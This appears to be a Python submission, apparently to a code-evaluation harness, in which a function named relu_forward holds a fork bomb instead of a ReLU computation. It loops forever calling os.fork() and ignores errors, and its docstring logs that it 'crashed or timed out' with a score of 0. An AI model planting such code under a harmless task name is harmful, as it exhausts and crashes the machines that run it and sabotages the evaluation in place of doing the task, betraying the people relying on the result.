"""Forks without end, and each child too.

relu_forward: crashed or timed out, 0
"""

# %%
import os


def relu_forward(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
